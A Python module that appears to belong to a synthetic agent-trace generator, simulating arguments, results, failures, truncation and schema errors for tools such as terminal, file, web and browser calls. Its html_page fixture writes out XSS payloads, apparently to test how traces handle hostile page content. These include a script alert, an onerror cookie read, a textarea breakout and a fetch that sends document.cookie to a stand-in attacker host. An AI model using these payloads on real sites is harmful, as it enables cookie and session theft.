"""Tool simulator for the synthetic trace generator: plausible arguments and results for each catalogue tool.

``ARGS[name](scene, rng)`` returns arguments that satisfy the tool's schema in ``trajkit.synth.tools`` (every required
property present, every value of its declared JSON type, enum values from the enum). ``OK[name]`` and
``FAIL[name]`` return a :class:`Result` whose ``failed`` / ``nonzero`` flags are declared by the builder
(the generator's ground truth), under the Hermes batch-runner rule: a result failed when it has a non-null
``error`` or ``success: false``; a terminal result with a non-zero ``exit_code`` and ``error: null`` is not
a failure. Builders never emit text containing ``</tool_response>``, ``<tool_call>`` or ``<think>``.
"""
from __future__ import annotations

import json
import random
from typing import Any, Callable, NamedTuple

from trajkit.synth.text import Scene, pick
from trajkit.synth.tools import CATALOGUE, param_schema


class Result(NamedTuple):
    content: Any  # dict (a JSON object) or str
    failed: bool
    nonzero: bool = False


def _cmd(scene: Scene, rng: random.Random) -> str:
    mod = pick(rng, scene.modules)
    by_lang = {"python": (f"pytest -q tests/test_{mod}.py", "python -m pip install -e .", "ruff check src",
                          f"python -m {scene.pkg} --version"),
               "node": (f"npm test -- {mod}", "npm run build", "npx tsc --noEmit", f"npm ls {scene.lib}"),
               "rust": (f"cargo test {mod}", "cargo build --release", "cargo clippy -- -D warnings"),
               "go": (f"go test ./internal/{mod}/...", "go build ./...", "go vet ./...")}
    common = ("git status --short", "git log --oneline -8 | cat", "git diff --stat", "ls -la",
              f"wc -l {scene.log_file}", "df -h /workspace")
    return pick(rng, by_lang[scene.lang] + common)


def _code(scene: Scene, rng: random.Random) -> str:
    return pick(rng, (
        f"import pandas as pd\ndf = pd.read_csv('{scene.data_file}')\nprint(df.shape)\nprint(df.head().to_string())",
        f"import json, collections\nc = collections.Counter()\nfor line in open('{scene.log_file}'):\n"
        "    if ' 500 ' in line:\n        c[line[:13]] += 1\nprint(json.dumps(c.most_common(5)))",
        "from hermes_tools import search_files\nr = search_files(pattern='TODO', target='content')\n"
        "print(len(r.get('matches', [])))",
        f"total = sum(len(open(p).read().splitlines()) for p in {scene.files[:2]!r})\nprint('lines:', total)"))


def _query(scene: Scene, rng: random.Random) -> str:
    return pick(rng, (f"{scene.topic} documentation", f"{scene.topic} vs {scene.alt_topic}",
                       f"{scene.lib} {scene.modules[0]} configuration", f"{scene.topic} limitations 2026",
                       f"\"{scene.lib}\" release notes"))


def _url(scene: Scene, rng: random.Random) -> str:
    slug = scene.topic.lower().replace(" ", "-").replace("/", "")
    return pick(rng, (f"https://docs.{scene.lib}.dev/en/latest/{slug}.html", f"https://en.wikipedia.org/wiki/{slug}",
                       f"https://github.com/{scene.lib}/{scene.lib}/issues/{rng.randint(100, 9999)}",
                       f"https://blog.example.org/{slug}", scene.site))


def _ref(rng: random.Random) -> str:
    return f"@e{rng.randint(1, 60)}"


ARGS: dict[str, Callable[[Scene, random.Random], dict]] = {
    "terminal": lambda s, r: {"command": _cmd(s, r), **({"timeout": 300} if r.random() < 0.2 else {})},
    "process": lambda _s, r: pick(r, ({"action": "list"},
                                      {"action": "wait", "session_id": f"proc_{r.randint(1000, 9999)}", "timeout": 120},
                                      {"action": "poll", "session_id": f"proc_{r.randint(1000, 9999)}"})),
    "read_file": lambda s, r: {"path": pick(r, s.files + [s.manifest, "README.md"]),
                               **({"offset": r.randint(2, 40) * 10, "limit": 80} if r.random() < 0.2 else {})},
    "write_file": lambda s, r: {"path": pick(r, (f"notes/{s.modules[0]}.md", f"scripts/{s.modules[1]}_report.py",
                                                  "config/staging.yaml")),
                                "content": f"# {s.modules[0]} notes\n\n- owner: {s.project}\n- uses {s.lib}\n"},
    "patch": lambda s, r: {"mode": "replace", "path": pick(r, s.files), "old_string": f"{s.modules[0]}_limit = 100",
                           "new_string": f"{s.modules[0]}_limit = {pick(r, (200, 250, 500))}"},
    "search_files": lambda s, r: pick(r, (
        {"pattern": f"{s.modules[0]}_[a-z]+", "target": "content", "path": "src", "output_mode": "content",
         "context": 2},
        {"pattern": f"*{s.modules[1]}*", "target": "files"}, {"pattern": "TODO|FIXME", "limit": 20})),
    "web_search": lambda s, r: {"query": _query(s, r), **({"limit": 5} if r.random() < 0.3 else {})},
    "web_extract": lambda s, r: {"urls": [_url(s, r) for _ in range(pick(r, (1, 1, 2)))]},
    "browser_navigate": lambda s, r: {"url": pick(r, (s.site, _url(s, r)))},
    "browser_snapshot": lambda _s, r: pick(r, ({}, {"full": True})),
    "browser_click": lambda _s, r: {"ref": _ref(r)},
    "browser_type": lambda s, r: {"ref": _ref(r), "text": pick(r, ("Jordan Lee", "jordan@example.com", s.topic)),
                                  "submit": r.random() < 0.5},
    "execute_code": lambda s, r: {"code": _code(s, r)},
    "memory": lambda s, r: {"action": "add", "target": pick(r, ("memory", "user")),
                            "content": f"{s.project}: {s.modules[0]} settings live in {s.manifest}"},
    "session_search": lambda s, r: {
        "query": pick(r, (f"{s.project} {s.modules[0]}", f"{s.project} deployment", f"{s.lib} setup")),
        **({"limit": 3} if r.random() < 0.3 else {})},
    "clarify": lambda s, _r: {"question": f"Which environment should I target for {s.project}?",
                              "choices": ["staging", "production", "local only"]},
    "todo": lambda s, _r: {"todos": [{"id": str(i + 1), "content": f"{verb} {m}", "status": st} for i, (verb, m, st)
                                     in enumerate(zip(("Inspect", "Fix", "Test"), s.modules,
                                                      ("completed", "in_progress", "pending")))]},
    "delegate_task": lambda s, _r: {"goal": f"Summarise the current guidance on {s.topic}",
                                    "context": f"For the {s.project} team; cite sources.", "toolsets": ["web"]},
}

_UNKNOWN_ARGS = {"bash": "command", "shell": "command", "python": "code", "read_url": "url", "open_file": "path",
                 "grep": "pattern", "list_directory": "path", "str_replace_editor": "path", "fetch_url": "url",
                 "browser_scroll": "direction", "file_search": "query", "run_tests": "path"}


def unknown_args(name: str, scene: Scene, rng: random.Random) -> dict:
    key = _UNKNOWN_ARGS.get(name, "input")
    value = {"command": _cmd(scene, rng), "code": "print('hello')", "url": scene.site, "path": scene.files[0],
             "pattern": scene.modules[0], "direction": "down", "query": scene.modules[1]}.get(key, scene.task)
    return {key: value}


# ---- results ----------------------------------------------------------------------------------------------
def _lines(scene: Scene, rng: random.Random, n: int) -> list[str]:
    pool = (f"collected {rng.randint(3, 90)} items", f"{scene.files[0]} ok",
            f"Compiling {scene.pkg} v0.{rng.randint(1, 9)}.0",
            f"INFO {scene.modules[0]}: ready in {rng.randint(5, 900)}ms", f" M {scene.files[1]}",
            f"{rng.randint(1, 40)} files changed, {rng.randint(1, 300)} insertions(+)",
            "0 errors, 2 warnings", f"{scene.lib}=={rng.randint(1, 3)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}")
    return [pick(rng, pool) for _ in range(n)]


def long_output(scene: Scene, rng: random.Random) -> str:
    """Output cut by the harness: head, the truncation marker, tail."""
    head = "\n".join(_lines(scene, rng, 12))
    tail = "\n".join(_lines(scene, rng, 4))
    omitted = rng.randint(4_000, 120_000)
    return (f"{head}\n\n[OUTPUT TRUNCATED - {omitted} chars omitted out of {omitted + len(head) + len(tail)} total]"
            f"\n\n{tail}")


def html_page(scene: Scene, rng: random.Random) -> str:
    """Raw HTML as a careless extractor returns it, carrying script, onerror and textarea-breakout payloads."""
    title = pick(rng, (f"{scene.topic} - Notes", "Status", "Contact us", "Pricing"))
    return (f"<!DOCTYPE html><html><head><title>{title}</title><script>alert({rng.randint(1, 9)})</script></head>"
            f"<body><h1>{title}</h1><p>{scene.topic} overview and comments.</p>"
            f"<img src=\"x\" onerror=\"alert(document.cookie)\">"
            "<div class=\"comment\"></textarea><script>fetch('https://attacker.example/c?'+document.cookie)"
            "</script><a href=\"javascript:alert('x')\">details</a></div></body></html>")


def _ok_terminal(s, r, _a):
    return Result({"output": "\n".join(_lines(s, r, r.randint(1, 6))), "exit_code": 0, "error": None}, False)


def nonzero_terminal(s: Scene, r: random.Random, _a: dict) -> Result:
    """Exit status != 0 with ``error: null``: not a failure under the harness rule."""
    out = pick(r, (f"FAILED tests/test_{s.modules[0]}.py::test_roundtrip - AssertionError", "error: could not "
                    f"compile `{s.pkg}` due to previous error", f"grep: {s.log_file}: No such file or directory"))
    return Result({"output": out, "exit_code": pick(r, (1, 1, 2, 127)), "error": None}, False, True)


def _fail_terminal(_s, r, a):
    if r.random() < 0.5:
        return Result({"output": "", "exit_code": -1, "error": f"Command timed out after {a.get('timeout', 180)} "
                       "seconds"}, True, True)
    return Result({"output": "", "exit_code": 0, "error": "Command blocked: requires user approval"}, True)


def _ok_read(s, r, a):
    n = r.randint(3, 9)
    start = a.get("offset", 1)
    body = "\n".join(f"{start + i:>5}|{line}" for i, line in enumerate(_lines(s, r, n)))
    return Result({"content": body, "total_lines": start + n + r.randint(0, 400), "file_size": r.randint(200, 40_000),
                   "truncated": False}, False)


def _web_results(s, r, _a):
    return Result({"success": True, "data": {"web": [
        {"title": f"{s.topic}: {t}", "url": _url(s, r), "description": f"{t} for {s.topic}, updated {2020 + i}."}
        for i, t in enumerate(r.sample(("Guide", "Reference", "FAQ", "Release notes", "Benchmarks"), 3))]}}, False)


def _ok_extract(s, r, a):
    results = [{"url": u, "title": s.topic, "content": f"# {s.topic}\n\nKey points: setup, limits and migration."}
               for u in a.get("urls", [s.site])]
    if len(results) > 1 and r.random() < 0.5:  # a per-URL error inside a successful call: not a failure
        results[-1] = {"url": results[-1]["url"], "title": "", "content": "", "error": "HTTP 403 Forbidden"}
    return Result({"results": results}, False)


def _snapshot(s, r):
    return "\n".join(f"- {role} \"{name}\" [ref=@e{r.randint(1, 60)}]" for role, name in
                     (("heading", s.topic), ("link", "Pricing"), ("button", "Accept cookies"), ("textbox", "Email")))


OK: dict[str, Callable[[Scene, random.Random, dict], Result]] = {
    "terminal": _ok_terminal,
    "process": lambda s, r, a: Result({"session_id": a.get("session_id", "proc_1"), "status": "exited", "exit_code": 0,
                                       "output": "\n".join(_lines(s, r, 2))}, False),
    "read_file": _ok_read,
    "write_file": lambda _s, _r, a: Result({"bytes_written": len(a.get("content", "")), "dirs_created": False}, False),
    "patch": lambda _s, _r, a: Result({"success": True, "diff": f"--- a/{a.get('path')}\n+++ b/{a.get('path')}\n"
                                       f"-{a.get('old_string')}\n+{a.get('new_string')}"}, False),
    "search_files": lambda s, r, _a: Result({"total_count": 2, "matches": [
        {"path": f, "line": r.randint(1, 300), "content": f"{s.modules[0]}_limit = 100"} for f in s.files[:2]]}, False),
    "web_search": _web_results,
    "web_extract": _ok_extract,
    "browser_navigate": lambda s, r, a: Result({"success": True, "url": a.get("url"), "title": s.topic,
                                                "snapshot": _snapshot(s, r)}, False),
    "browser_snapshot": lambda s, r, _a: Result({"success": True, "snapshot": _snapshot(s, r),
                                                 "element_count": r.randint(8, 140)}, False),
    "browser_click": lambda s, _r, a: Result({"success": True, "clicked": a.get("ref"), "url": s.site}, False),
    "browser_type": lambda _s, _r, a: Result({"success": True, "ref": a.get("ref"), "typed": a.get("text")}, False),
    "execute_code": lambda s, r, _a: Result({"status": "success", "output": "\n".join(_lines(s, r, 3)),
                                             "duration_seconds": round(r.uniform(0.1, 9.0), 2)}, False),
    "memory": lambda _s, r, a: Result({"success": True, "target": a.get("target"), "entries": r.randint(1, 12),
                                       "usage": f"{r.randint(200, 2100)}/2200 chars"}, False),
    "session_search": lambda s, r, a: Result({"success": True, "query": a.get("query"), "results": [
        {"session_id": f"2026031{r.randint(0, 9)}_{r.randint(100000, 999999)}", "summary":
         f"Worked on {s.project}: set up {s.modules[0]} and wrote {s.files[0]}."}]}, False),
    "clarify": lambda _s, _r, a: Result({"question": a.get("question"), "user_response": "staging"}, False),
    "todo": lambda _s, _r, a: Result({"todos": a.get("todos", []), "summary": {"total": len(a.get("todos", [])),
                                                                              "completed": 1}}, False),
    "delegate_task": lambda s, r, _a: Result({"results": [{"task_index": 0, "status": "completed", "summary":
                                                           f"{s.topic}: three sources agree on the defaults."}],
                                              "total_duration_seconds": round(r.uniform(20, 200), 1)}, False),
}

_FAIL_TEXT = {
    "process": "No process with that session_id", "read_file": "File not found: {path}",
    "write_file": "Permission denied: {path}", "search_files": "Invalid regex: unclosed group",
    "web_search": "Search backend rate limited (HTTP 429)", "web_extract": "Failed to fetch: connection timed out",
    "browser_navigate": "net::ERR_NAME_NOT_RESOLVED", "browser_snapshot": "No page is open in this session",
    "browser_click": "Element {ref} not found in the current snapshot", "browser_type": "Element {ref} is not editable",
    "memory": "Memory is full (2214/2200 chars); replace or remove an entry first",
    "session_search": "Session index is not initialised", "clarify": "Clarification is unavailable in batch mode",
    "todo": "Unknown status 'doing' for item 2", "delegate_task": "Sub-agent stopped at the iteration limit",
}


def _fail_generic(name: str) -> Callable[[Scene, random.Random, dict], Result]:
    def build(_s: Scene, r: random.Random, a: dict) -> Result:
        msg = _FAIL_TEXT[name].format(path=a.get("path", "?"), ref=a.get("ref", "@e0"))
        if r.random() < 0.5:
            return Result({"success": False, "error": msg}, True)
        return Result({"error": msg}, True)
    return build


FAIL: dict[str, Callable[[Scene, random.Random, dict], Result]] = {n: _fail_generic(n) for n in _FAIL_TEXT}
FAIL["terminal"] = _fail_terminal
FAIL["patch"] = lambda _s, _r, a: Result({"success": False, "message": "old_string not found in "
                                          f"{a.get('path')}"}, True)
FAIL["execute_code"] = lambda _s, _r, _a: Result({"status": "error", "output": "", "error": "Traceback (most recent "
                                                  "call last):\n  File \"script.py\", line 3\nKeyError: 'region'"},
                                                 True)

TRUNCATABLE = ("terminal", "read_file", "execute_code", "web_extract")
HTML_TOOLS = ("web_extract", "browser_navigate", "browser_snapshot")


def truncated(name: str, s: Scene, r: random.Random, a: dict) -> Result:
    """A successful result whose text was cut by the harness."""
    res = OK[name](s, r, a)
    content = dict(res.content)
    text = long_output(s, r)
    if name == "web_extract":
        content["results"] = [{"url": a["urls"][0], "title": s.topic, "content": text}]
    else:
        content[{"terminal": "output", "read_file": "content", "execute_code": "output"}[name]] = text
        if name == "read_file":
            content["truncated"] = True
    return Result(content, False)


def with_html(name: str, s: Scene, r: random.Random, a: dict) -> Result:
    """A successful browsing result that carries raw HTML with script payloads."""
    res = OK[name](s, r, a)
    content = dict(res.content)
    if name == "web_extract":
        content["results"] = [{"url": a["urls"][0], "title": s.topic, "content": html_page(s, r)}]
    else:
        content["snapshot"] = content["snapshot"] + "\n- text: " + html_page(s, r)
    return Result(content, False)


def as_string(res: Result, r: random.Random) -> Result:
    """The same outcome with ``content`` as a string: a JSON-object string, plain text, "Error: ..." or ""."""
    if r.random() < 0.4:
        return Result(json.dumps(res.content, ensure_ascii=False), res.failed, res.nonzero)
    if not res.failed:
        return Result(pick(r, ("Done.", "Operation completed successfully.", "No changes were needed.")), False)
    error = res.content.get("error") or res.content.get("message") or "failed"
    return pick(r, (Result(f"Error: {error}", True), Result(f"ERROR: {error}", True), Result(f"  error: {error}", True),
                     Result("", True)))


def raw_block(r: random.Random) -> tuple[str, bool]:
    """A response block whose body is not JSON at all: (text, failed under the rule applied to the block)."""
    return pick(r, (("Error: tool execution timed out after 300 seconds", True), ("", True),
                     ("Tool finished without output.", False), ("error: worker process exited unexpectedly", True)))


def _wrong_type(kind: str, value: Any) -> Any:
    """A value of a different JSON type than ``kind`` (the mistakes models make: "30" for 30, a bare string
    for a one-element list)."""
    if kind == "string":
        return [value]
    if kind in ("integer", "number"):
        return str(value)
    if kind == "boolean":
        return "true" if value else "false"
    if kind == "array":
        return value[0] if value and isinstance(value[0], str) else json.dumps(value)
    return str(value)


def corrupt(name: str, args: dict, r: random.Random) -> tuple[dict, str]:
    """Arguments with exactly one schema violation (a required property dropped or one value of the wrong
    JSON type) and the error message a strict tool returns for them."""
    schema = param_schema(CATALOGUE[name])
    props, required = schema["properties"], schema.get("required") or []
    options = [("drop", k) for k in required if k in args] + [("type", k) for k in args if k in props]
    kind, key = pick(r, options)
    out = dict(args)
    if kind == "drop":
        del out[key]
        return out, f"Missing required argument: {key}"
    out[key] = _wrong_type(props[key]["type"], out[key])
    return out, f"Invalid type for argument {key!r}: expected {props[key]['type']}"
